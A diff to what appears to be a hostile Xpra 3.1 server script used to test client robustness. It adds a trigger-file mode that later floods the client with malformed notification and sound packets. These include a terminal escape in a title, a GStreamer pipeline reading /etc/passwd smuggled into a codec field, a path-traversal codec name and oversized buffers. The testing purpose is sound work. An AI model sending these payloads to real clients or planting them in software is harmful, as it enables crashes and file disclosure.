@@ -1,7 +1,15 @@
 #!/usr/bin/python3
 # In the place of `xpra` in a guest: Xpra 3.1's own server, turned against its client. It asks the client for all that
 # a client can do, one thing after the other, tells what the client answers, and at last sends what is no packet.
+#
+# With WAITS it is an ordinary server until a file in the guest says that it is time; then it abuses what a user has
+# allowed, sound and notifications, and goes on.
 
+WAITS = False
+TIME = "/tmp/nofear-hostile-begins"
+OVER = "/tmp/nofear-hostile-ends"
+
+import os
 import struct
 import sys
 
@@ -49,6 +57,30 @@ ATTACKS = [
     ("malformed", ["no-such-packet", {"a": [b"\xff" * 1000]}]),
 ]
 
+def notification(number, summary, body, icon=b""):
+    return ["notify_show", "", number, "app", 0, "", summary, body, 600000, icon, ["a", "b"] * 50, {}]
+
+
+def sound(codec, data, metadata={}):
+    return ["sound-data", codec, data, metadata]
+
+
+# And these many times.
+ALLOWED = [("notification", notification(n, "nofear-hostile %i" % n, "<b>" + "x" * 5000)) for n in range(60)] + [
+    ("notification", notification(1, "\x1b]0;nofear-hostile\x07", "\0" * 100)),
+    ("notification", notification(2, "picture", "", ("png", 1 << 20, 1 << 20, b"\x89PNG\r\n\x1a\n" + b"x" * 100))),
+    ("notification", ["notify_show", 1, b"\xff", "", {}, [], -1, (), "never"]),
+    ("notification", ["notify_close", -1]),
+    ("sound", sound("wav", b"RIFF" + b"\xff" * (1 << 20))),
+    ("sound", sound("wav", b"", {"sequence": -(1 << 62)})),
+    ("sound", ["sound-data"]),
+    ("sound", sound("mp3", b"\xff\xfb" * 2000)),
+    ("sound", sound("../../x", b"", {"start-of-stream": True, "codec": "filesrc location=/etc/passwd ! filesink"})),
+] + [
+    ("sound", sound("wav", b"", {end + "-of-stream": True, "codec": "wav"})) for end in ("start", "end") * 3
+]
+
+
 # What a client sends by itself.
 ORDINARY = {
     "hello", "ping", "ping_echo", "pointer-position", "damage-sequence", "connection-data", "map-window", "focus",
@@ -76,6 +108,9 @@ def attack(source, rest):
 
 def finish(source):
     say("the client is there")
+    if WAITS:
+        open(OVER, "w").close()
+        return False
     # A header that promises two gigabytes, and bytes.
     source.protocol._conn.write(struct.pack(">cBBBL", b"P", 0, 0, 0, (1 << 31) - 1) + b"x" * 4096)
     return False
@@ -89,7 +124,17 @@ plain_complete = ClientConnection.startup_complete
 def startup_complete(source):
     plain_complete(source)
     tried.append(source)
-    GLib.timeout_add(1000, attack, source, ATTACKS)
+    if WAITS:
+        GLib.timeout_add(1000, begin, source)
+    else:
+        GLib.timeout_add(1000, attack, source, ATTACKS)
+
+
+def begin(source):
+    if not os.path.exists(TIME):
+        return True
+    attack(source, ALLOWED)
+    return False
 
 
 plain_process = ServerBase.process_packet
